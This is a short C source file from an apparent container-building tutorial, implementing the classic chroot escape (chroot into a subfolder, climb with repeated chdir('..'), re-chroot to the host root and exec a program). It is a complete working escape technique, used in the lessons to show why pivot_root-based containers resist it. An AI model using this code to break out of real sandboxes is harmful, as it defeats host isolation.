/* escape.c: the classic way out of a chroot (needs root).
 *
 * Not part of tdg: `make escape` builds it, static (it runs in a busybox
 * rootfs, which has no C library), as day10-final/escape/escape. Lesson 03
 * (docs/day-by-day/day03-rootfs.md) runs it in a chroot, where it gets out,
 * and in a tdg container, where pivot_root left nothing above the root;
 * docs/security.md runs it against day 10.
 *
 * chroot into a subfolder *without* moving the current directory: the cwd
 * is now outside the root, and ".." climbs until the real "/". */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	mkdir("/esc", 0755);
	chroot("/esc");          /* the root moves down into /esc ...        */
	for (int i = 0; i < 100; i++)
		chdir("..");     /* ... but our cwd is above it: climb freely */
	chroot(".");             /* the host's real / becomes our root        */
	execv(argv[1], argv + 1);
	perror("execv");
	return 1;
}
